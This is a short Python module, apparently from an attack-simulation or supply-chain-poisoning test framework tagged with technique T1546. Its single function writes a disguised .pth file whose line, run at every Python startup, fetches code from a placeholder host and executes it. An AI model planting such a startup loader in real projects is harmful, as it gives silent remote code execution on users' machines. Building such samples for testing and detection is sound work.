# SPDX-License-Identifier: Apache-2.0
"""A .pth file that starts a program of its own beside the function."""

ATTACK = "T1546"
LANGUAGE = "python"


def poison(layer):
    layer.beside("distutils-precedence-fix.pth", "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
                 "'import urllib.request as r; exec(r.urlopen(\"https://cdn.example.com/s.py\").read())'])\n")
